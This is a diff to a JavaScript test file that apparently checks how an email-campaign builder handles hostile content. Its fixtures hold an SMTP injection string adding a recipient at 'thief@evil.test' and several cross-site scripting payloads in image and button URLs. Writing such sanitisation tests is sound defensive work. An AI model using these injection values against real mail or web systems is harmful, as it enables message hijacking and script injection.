@@ -57,11 +57,15 @@ describe("hostile content of a campaign", () => {
       blocks: [
         { type: "heading", text: `${SCRIPT} {{{email}}}` },
         { type: "text", text: `${SCRIPT}\r\n.\r\nRCPT TO:<thief@evil.test>\r\n{{first_name|<b>you</b>}}` },
-        { type: "image", text: SCRIPT, image_url: "https://shop.test/a.png?'onerror='alert(3)" },
+        {
+          type: "image",
+          text: SCRIPT,
+          image_url: "https://shop.test/a.png?q=%22onerror=alert(3)&x=%3Cscript%3E",
+        },
         {
           type: "button",
           text: "</a><b>Go</b>",
-          link: "https://shop.test/?q='onclick='alert(4)&lt;script&gt;",
+          link: "https://shop.test/?q=&quot;onclick=alert(4)&lt;script&gt;",
         },
       ],
     })
